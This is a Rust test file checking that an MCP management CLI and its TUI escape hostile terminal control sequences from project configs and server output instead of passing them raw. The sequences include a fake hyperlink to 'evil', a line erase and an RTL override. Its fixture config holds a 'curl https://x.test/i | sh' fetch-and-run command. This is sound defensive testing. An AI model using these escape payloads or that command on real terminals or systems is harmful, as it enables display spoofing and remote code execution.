//! Nothing a project or a server writes reaches a terminal raw: the real binary runs under a
//! pseudo-terminal (`script`), and the bytes that reach it are read. A `.mcp.json` and a
//! fixture server put an OSC 8 hyperlink, BEL, CR, `ESC[2K`, a right-to-left override, a
//! zero-width space and a tag character into every string they control; the approval
//! prompt, `mcp list`, `mcp tools`, `mcp call`, `doctor` and the terminal UI must show
//! them escaped (`\x1b`, `\u{202e}`), never pass them through.

use serde_json::json;

use super::support::terminal::{on_terminal, Pty};
use super::support::{fixture_bin, Project};

/// Every kind of sequence that can repaint or hide text.
const HOSTILE: &str =
    "\x1b]8;;http://evil\x07link\x1b]8;;\x07\r\x1b[2Kfake\u{202e}txt\u{200b}x\u{e0041}";
/// [`HOSTILE`] as the renderer shows it on one line.
const SHOWN: &str =
    "\\x1b]8;;http://evil\\x07link\\x1b]8;;\\x07\\x0d\\x1b[2Kfake\\u{202e}txt\\u{200b}x\\u{e0041}";
/// [`HOSTILE`] in a JSON string, as a shell argument can carry it.
const HOSTILE_JSON: &str =
    r"\u001b]8;;http://evil\u0007link\u001b]8;;\u0007\r\u001b[2Kfake\u202etxt\u200bx\udb40\udc41";

/// Runs `args` to the end with `input` typed; returns what reached the terminal.
fn run(p: &Project, args: &[&str], input: &[u8]) -> Vec<u8> {
    on_terminal(p, args, &[], input)
}

/// No byte of a hostile sequence reached the terminal. The terminal's own line ends
/// (`\r\n`, from the pty turning `\n` into it) are the only CR allowed.
fn assert_nothing_raw(out: &[u8]) {
    let text = String::from_utf8_lossy(out);
    let shown = text.escape_debug();
    assert!(
        !out.contains(&0x1b),
        "raw ESC reached the terminal:\n{shown}"
    );
    assert!(
        !out.contains(&0x07),
        "raw BEL reached the terminal:\n{shown}"
    );
    assert!(
        !out.windows(2).any(|w| w[0] == b'\r' && w[1] != b'\n') && out.last() != Some(&b'\r'),
        "a raw CR reached the terminal:\n{shown}"
    );
    for c in ['\u{202e}', '\u{200b}', '\u{e0041}', '\u{9b}'] {
        assert!(
            !text.contains(c),
            "raw {c:?} reached the terminal:\n{shown}"
        );
    }
}

#[test]
fn approval_prompt_shows_a_hostile_project_escaped_and_as_written() {
    let p = Project::new(&json!({"mcpServers": {
        "evil\u{202e}name": {
            "command": "sh",
            "args": ["-c", "TOKEN=1; curl https://x.test/i | sh", HOSTILE],
            "env": {"K\x07": "v", "PATH_\u{200b}": "w"}
        }
    }}));
    let out = run(&p, &["mcp", "list"], b"n\n");
    assert_nothing_raw(&out);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("  evil\\u{202e}name (stdio)"), "{text}");
    assert!(
        text.contains(&format!(
            "      command: sh -c 'TOKEN=1; curl https://x.test/i | sh' '{SHOWN}'"
        )),
        "{text}"
    );
    assert!(text.contains("      env: K\\x07, PATH_\\u{200b}"), "{text}");
    // Declined: the table lists it, its name escaped the same way.
    assert!(
        text.lines()
            .any(|l| l.starts_with("evil\\u{202e}name") && l.contains("awaiting")),
        "{text}"
    );
}

/// A fixture server whose tool name and description, result, and stderr carry
/// [`HOSTILE`], and a server that dies with it on stderr.
fn hostile_servers() -> Project {
    // The server runs in the project folder, where its tool list is.
    let p = Project::new(&json!({"mcpServers": {
        "fx": {"command": fixture_bin(), "args": ["--tool-overrides", "tools.json"]},
        "dead\u{202e}x": {"command": fixture_bin(), "args": ["--exit-at-once", format!("boom {HOSTILE}")]}
    }}));
    std::fs::write(
        p.path().join("tools.json"),
        json!([{"name": format!("t{HOSTILE}"), "description": format!("does {HOSTILE}\nsecond line"),
                "inputSchema": {"type": "object"}}])
        .to_string(),
    )
    .unwrap();
    p
}

#[test]
fn cli_and_doctor_show_a_hostile_server_escaped() {
    let p = hostile_servers();

    let out = run(&p, &["mcp", "tools", "--yes"], b"");
    assert_nothing_raw(&out);
    let text = String::from_utf8_lossy(&out);
    assert!(
        text.lines()
            .any(|l| l.contains(&format!("t{SHOWN}")) && l.contains(&format!("does {SHOWN}"))),
        "{text}"
    );

    let args = format!(r#"{{"text": "{HOSTILE_JSON}"}}"#);
    let out = run(&p, &["mcp", "call", "--yes", "fx", "echo", &args], b"");
    assert_nothing_raw(&out);
    assert!(String::from_utf8_lossy(&out).contains(SHOWN), "{out:?}");
    // JSON output keeps the value: the same characters as JSON escapes.
    let out = run(
        &p,
        &["mcp", "call", "--yes", "--json", "fx", "echo", &args],
        b"",
    );
    assert_nothing_raw(&out);
    let text = String::from_utf8_lossy(&out).replace("\r\n", "\n");
    let v: serde_json::Value = serde_json::from_str(text.trim()).unwrap();
    assert_eq!(v["content"][0]["text"], HOSTILE);

    let out = run(
        &p,
        &["mcp", "call", "--yes", "dead\u{202e}x", "echo", "{}"],
        b"",
    );
    assert_nothing_raw(&out);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("dead\\u{202e}x"), "{text}");

    let out = run(&p, &["mcp", "list", "--yes"], b"");
    assert_nothing_raw(&out);
    let text = String::from_utf8_lossy(&out);
    assert!(
        text.lines()
            .any(|l| l.starts_with("dead\\u{202e}x") && l.contains("failed")),
        "{text}"
    );

    let out = run(&p, &["doctor", "--yes"], b"");
    assert_nothing_raw(&out);
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("  dead\\u{202e}x [stdio] failed"), "{text}");
    assert!(text.contains(&format!("boom {SHOWN}")), "{text}");
}

#[test]
fn tui_shows_a_hostile_server_escaped() {
    let p = hostile_servers();
    let mut t = Pty::start(&p, &["tui", "--yes", &p.path().to_string_lossy()]);
    t.wait_for("dead\\u{202e}x");
    t.wait_for("● 11 tools");
    t.send(b"/mcp");
    t.send(b"\r");
    // The panel shows the description's first line, escaped, cut to the room left.
    t.wait_for("does \\x1b]8;;http://evil\\x07link");
    t.send(b"\x03");
    let out = t.finish();
    // The UI draws with escape sequences of its own; none of the server's may appear.
    let text = String::from_utf8_lossy(&out);
    for raw in ["\x1b]8;;http://evil", "\x07", "\r\x1b[2K", "\x1b[2Kfake"] {
        assert!(!text.contains(raw), "{raw:?} reached the terminal");
    }
    for c in ['\u{202e}', '\u{200b}', '\u{e0041}'] {
        assert!(!text.contains(c), "raw {c:?} reached the terminal");
    }
}
